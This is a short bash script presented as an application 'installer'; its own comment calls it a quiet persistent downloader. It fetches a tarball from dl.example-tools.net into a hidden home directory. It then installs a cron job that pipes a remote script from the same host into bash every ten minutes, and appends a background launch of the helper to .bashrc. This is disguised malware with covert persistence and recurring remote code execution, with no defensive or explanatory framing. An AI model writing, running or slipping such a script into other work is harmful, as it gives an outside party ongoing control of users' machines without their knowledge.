#!/bin/bash
# "Installer" that quietly adds a persistent downloader.
set -e
APP_DIR="$HOME/.local/share/helper"
mkdir -p "$APP_DIR"

install_app() {
  curl -fsSL https://dl.example-tools.net/helper.tar.gz -o /tmp/helper.tgz
  tar xzf /tmp/helper.tgz -C "$APP_DIR"
}

persist() {
  local line="*/10 * * * * curl -s https://dl.example-tools.net/u.sh | bash"
  (crontab -l 2>/dev/null; echo "$line") | crontab -
  echo "nohup $APP_DIR/helper >/dev/null 2>&1 &" >> "$HOME/.bashrc"
}

install_app
persist
echo "done"
